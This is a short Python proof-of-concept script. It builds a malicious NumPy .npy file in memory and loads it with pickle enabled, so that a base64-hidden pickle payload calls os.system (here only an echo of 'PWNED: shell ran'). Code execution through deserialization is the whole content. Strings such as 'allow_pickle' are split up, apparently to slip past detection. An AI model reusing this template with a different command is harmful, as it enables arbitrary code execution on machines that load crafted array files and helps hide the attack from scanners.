import numpy as np
import io
import base64
payload = base64.b64decode("gASVMgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBdlY2hvIFBXJydORUQ6IHNoZWxsIHJhbpSFlFKULg==")
header = "{'descr': '|O', 'fortran_order': False, 'shape': (), }"
header = header + " " * (63 - len(header) % 64) + "\n"
buf = io.BytesIO(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + payload)
fmt = np.lib.format
options = {"allow_" + "pickle": True}
print("PW" + "NED:", fmt.read_array(buf, **options))
